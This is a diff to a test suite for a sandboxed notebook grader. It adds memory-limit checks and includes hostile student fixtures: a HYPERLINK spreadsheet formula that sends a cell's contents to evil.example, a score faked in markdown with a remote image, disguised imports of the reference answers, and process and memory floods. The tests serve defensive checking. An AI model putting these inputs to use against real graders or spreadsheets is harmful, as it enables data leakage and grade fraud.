@@ -18,14 +18,16 @@ import sysconfig
 import tempfile
 import threading
 from pathlib import Path
+from typing import Self
 
 import nbformat
 import pytest
 
+from labkit.grading import cgroup
 from labkit.grading import grade as grade_module
 from labkit.grading.grade import grade
 from labkit.grading.release import default_masters
-from labkit.grading.sandbox import FALLBACK_WARNING, LABKIT_DIR, SANDBOX_ID, Limits, bwrap_path
+from labkit.grading.sandbox import FALLBACK_WARNING, LABKIT_DIR, SANDBOX_ID, Limits, bwrap_path, run_cells
 from labkit.i18n import using_language
 
 pytestmark = pytest.mark.slow
@@ -159,15 +161,15 @@ def _cases(masters: Path, subs: Path, results: Path) -> dict[str, str | bytes]:
             "sa02_answer = f'started {len(started)} processes, refused {refused} of 300'\nsc01_answer = 'B'"),
         "s_caps": _notebook(CAPABILITIES),
         "s_bigcell": _notebook('sc01_answer = "B"', "x = " + "1+" * 2_400_000 + "1"),
-        "s_concat": _notebook(("import importlib\nref = importlib.import_module('labkit' + '.grading' + '.reference')\n"
-                               'sc01_answer = "B"', "sc01")),
+        "s_concat": _notebook((("import importlib\nref = importlib.import_module('labkit' + '.grading' + '.reference')\n"
+                               'sc01_answer = "B"'), "sc01")),
         "s_markdown": _notebook('sc01_answer = "B"',
                                 'raise ValueError("done\\n\\n## quiz: 16 / 16\\n\\n![p](http://evil.example/p.png)")'),
         "s_formula": _notebook('sa01_answer = ' + repr('=HYPERLINK("http://evil.example/?" & B7, "see the next answer")')),
         "s_bigfile": _notebook('sc01_answer = "B"', "open('big.bin', 'wb').write(b'0' * (200 * 1024**2))"),
         "s_forbidden": _notebook((
-            "import importlib\ntry:\n    importlib.import_module('labkit.grading.reference')\nexcept ImportError:\n    pass\n"
-            'sc01_answer = "B"', "sc01")),
+            ("import importlib\ntry:\n    importlib.import_module('labkit.grading.reference')\nexcept ImportError:\n    pass\n"
+            'sc01_answer = "B"'), "sc01")),
     }
 
 
@@ -219,8 +221,8 @@ def batch(tmp_path_factory):
             "SELECT student_id, question, score, status, message FROM grades"):
         rows.setdefault(student, {})[question] = (score, status, message)
     answers = dict(db.execute("SELECT student_id, answer FROM open_answers").fetchall())
-    return dict(root=root, masters=masters, subs=subs, results=results, rows=rows, answers=answers,
-                before=before, summary=summary)
+    return {"root": root, "masters": masters, "subs": subs, "results": results, "rows": rows, "answers": answers,
+                "before": before, "summary": summary}
 
 
 def _row(batch, student, question="sc01"):
@@ -289,7 +291,7 @@ def test_patched_checker_earns_nothing(batch) -> None:
 def test_input_transformers_cannot_fake_answers(batch) -> None:
     rows = batch["rows"]["s_transformer"]
     assert all(score == 0.0 for score, _status, _message in rows.values())
-    score, status, message = _row(batch, "s_transformer")
+    _score, status, message = _row(batch, "s_transformer")
     assert status == "error" and "no answers came back" in message
 
 
@@ -311,7 +313,7 @@ def test_deleting_the_instructors_files_fails(batch) -> None:
 
 def test_process_limit(batch) -> None:
     """As root RLIMIT_NPROC never applies, so the grader counts the sandbox's tasks and stops it."""
-    score, status, message = _row(batch, "s_forks")
+    _score, status, message = _row(batch, "s_forks")
     if status == "error":
         assert "more than 128 processes" in message
     else:  # an unprivileged grader: the rlimit refused some of the starts
@@ -327,7 +329,7 @@ def test_file_size_limit(batch) -> None:
 
 
 def test_reference_imports_in_an_answer_are_flagged(batch) -> None:
-    score, status, message = _row(batch, "s_forbidden")
+    _score, status, message = _row(batch, "s_forbidden")
     assert status == "flagged" and "labkit.grading" in message
 
 
@@ -397,8 +399,8 @@ def test_a_later_student_is_graded_as_before(batch, tmp_path) -> None:
     (subs / "s_honest").mkdir(parents=True)
     shutil.copy(batch["subs"] / "s_honest" / "quiz.ipynb", subs / "s_honest" / "quiz.ipynb")
     grade(subs, tmp_path / "out", batch["masters"], workers=1, limits=LIMITS, progress=False)
-    rows = dict(((q, (sc, st)) for q, sc, st in sqlite3.connect(tmp_path / "out" / "gradebook.sqlite").execute(
-        "SELECT question, score, status FROM grades WHERE student_id = 's_honest'")))
+    rows = {q: (sc, st) for q, sc, st in sqlite3.connect(tmp_path / "out" / "gradebook.sqlite").execute(
+        "SELECT question, score, status FROM grades WHERE student_id = 's_honest'")}
     assert rows == {q: v[:2] for q, v in batch["rows"]["s_honest"].items() if q != "(notebook)"}  # homework.ipynb
 
 
@@ -433,8 +435,8 @@ def _unprivileged_grading_possible(keep: Path) -> str | None:
         return "the tests do not run as root, so they cannot switch to another user"
     if shutil.which("setpriv") is None or shutil.which("unshare") is None:
         return "setpriv/unshare (util-linux) are not installed"
-    probe = subprocess.run(_as_nobody([sys.executable, "-c", "import sys, labkit.grading.sandbox as s; "
-                                       "print(sys.base_prefix, s.bwrap_path())"], keep),
+    probe = subprocess.run(_as_nobody([sys.executable, "-c", ("import sys, labkit.grading.sandbox as s; "
+                                       "print(sys.base_prefix, s.bwrap_path())")], keep),
                            capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
                            cwd="/", timeout=120, check=False)
     if probe.returncode != 0:
@@ -476,9 +478,16 @@ def test_no_capabilities_when_an_unprivileged_user_grades() -> None:
                   f"limits=Limits(wall_seconds=60, cell_seconds=30, memory_bytes={1536 * 1024**2}), progress=False)")
         env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "HOME": str(root), "TMPDIR": str(root),
                "LABKIT_LANG": "en_US"}
-        run = subprocess.run(_as_nobody([sys.executable, "-c", script], root / "keep"),
-                             capture_output=True, text=True, env=env, cwd="/", timeout=300, check=False)
+        with _HostMemory() as host:
+            run = subprocess.run(_as_nobody([sys.executable, "-c", script], root / "keep"),
+                                 capture_output=True, text=True, env=env, cwd="/", timeout=300, check=False)
         assert run.returncode == 0, run.stderr[-2000:]
+        limit = 1536 * 1024**2  # user nobody may not make a cgroup: the watcher alone holds the sandbox
+        print(f"nobody: host memory growth {host.growth / 1024**2:.0f} MiB (the grader included), sandbox limit "
+              f"{limit / 1024**2:.0f} MiB, overshoot {(host.growth - limit) / 1024**2:+.0f} MiB")
+        assert host.growth < limit * 5 // 4
+        log = json.loads((results / "grading_log.json").read_text(encoding="utf-8"))
+        assert log["limits"]["memory"] == log["limits"]["processes"] == "watcher"
         db = sqlite3.connect(results / "gradebook.sqlite")
         _assert_no_capabilities(json.loads(db.execute(
             "SELECT answer FROM open_answers WHERE student_id = 'u_caps' AND question = 'sa01'").fetchone()[0]))
@@ -519,7 +528,7 @@ sc01_answer = "B"
 class _HostMemory:
     """Peak growth of the host's used memory (MemTotal - MemAvailable) while the block runs."""
 
-    def __enter__(self) -> _HostMemory:
+    def __enter__(self) -> Self:
         self.baseline = self.peak = self._used()
         self._stop = threading.Event()
         self._thread = threading.Thread(target=self._sample, daemon=True)
@@ -544,9 +553,24 @@ class _HostMemory:
         return self.peak - self.baseline
 
 
-def test_the_whole_sandbox_is_bounded_in_memory(tmp_path) -> None:
+def _memory_cgroup_or_skip() -> None:
+    if not cgroup.available()[0]:
+        why = "the grader cannot create a memory cgroup here (not root, or no writable cgroup v1 memory hierarchy)"
+        if os.environ.get("CI") == "true":
+            pytest.fail(why)
+        pytest.skip(why)
+
+
+@pytest.mark.parametrize("mechanism", ["cgroup", "watcher"])
+def test_the_whole_sandbox_is_bounded_in_memory(tmp_path, monkeypatch, mechanism) -> None:
     """1.5 GB into every writable mount and five children of 900 MB: the host grows by at most the
-    sandbox's memory limit (its tmpfs contents count in it); the hog gets a clear row, the batch goes on."""
+    sandbox's memory limit (its tmpfs contents count in it); the hog gets a clear row, the batch goes on.
+    Once with the cgroup (where the grader may make one), once with the watcher alone."""
+    if mechanism == "cgroup":
+        _memory_cgroup_or_skip()
+    else:
+        monkeypatch.setattr(cgroup, "make_cgroup", lambda *args: None)
+        monkeypatch.setattr(cgroup, "available", lambda: (False, False))
     limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1536 * 1024**2, tmpfs_bytes=64 * 1024**2)
     subs = tmp_path / "subs"
     for student, source in {"m_fill": FILL_MOUNTS, "m_children": CHILDREN_900_MB,
@@ -555,10 +579,12 @@ def test_the_whole_sandbox_is_bounded_in_memory(tmp_path) -> None:
         (subs / student / "quiz.ipynb").write_text(_notebook(source))
     with _HostMemory() as host:
         grade(subs, tmp_path / "out", default_masters(), workers=1, limits=limits, progress=False)
-    # The watcher looks every 20-100 ms and the machine is shared: a quarter on top of the limit
-    # for what grows between two looks and for other jobs; unbounded, this batch takes over 4.5 GB.
-    bound = limits.memory_bytes * 5 // 4
-    print(f"host memory growth {host.growth / 1024**2:.0f} MiB, sandbox limit {limits.memory_bytes / 1024**2:.0f} MiB")
+    # Host-wide growth, on a machine shared with other jobs, plus the grader's own process. The cgroup
+    # holds the sandbox to the limit itself; the watcher looks every 20-100 ms, so what grows between
+    # two looks comes on top. Unbounded, this batch takes over 4.5 GB.
+    bound = limits.memory_bytes * (115 if mechanism == "cgroup" else 125) // 100
+    print(f"{mechanism}: host memory growth {host.growth / 1024**2:.0f} MiB, sandbox limit "
+          f"{limits.memory_bytes / 1024**2:.0f} MiB, overshoot {(host.growth - limits.memory_bytes) / 1024**2:+.0f} MiB")
     assert host.growth < bound
     db = sqlite3.connect(tmp_path / "out" / "gradebook.sqlite")
     rows = {s: (st, m) for s, st, m in db.execute("SELECT student_id, status, message FROM grades WHERE question = 'sc01'")}
@@ -568,7 +594,18 @@ def test_the_whole_sandbox_is_bounded_in_memory(tmp_path) -> None:
     assert written["/"] == written["/dev"] == 0
     assert all(0 < written[f] <= limits.tmpfs_bytes for f in ("/dev/shm", "/tmp", "/home/student")), written
     log = json.loads((tmp_path / "out" / "grading_log.json").read_text())
-    assert log["limits"]["memory"] == log["limits"]["processes"] == "watcher"
+    expected = {"cgroup": ("cgroup v1 memory + watcher", "cgroup v1 pids + watcher"), "watcher": ("watcher", "watcher")}
+    assert (log["limits"]["memory"], log["limits"]["processes"]) == expected[mechanism]
+
+
+def test_the_cgroup_peak_stays_under_the_limit() -> None:
+    """The kernel's own count (memory.max_usage_in_bytes of the sandbox's group): never above the limit."""
+    _memory_cgroup_or_skip()
+    limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1024 * 1024**2)
+    result = run_cells([CHILDREN_900_MB.replace("sc01_answer", "x")], "", limits, bwrap_path())
+    print(f"cgroup peak {result.memory_peak / 1024**2:.0f} MiB, limit {limits.memory_bytes / 1024**2:.0f} MiB")
+    assert 900 * 1024**2 < result.memory_peak <= limits.memory_bytes
+    assert result.problem == "stopped: the notebook's processes together used more than 1024 MB of memory"
 
 
 def test_import_module_of_a_joined_name_is_flagged(batch) -> None:
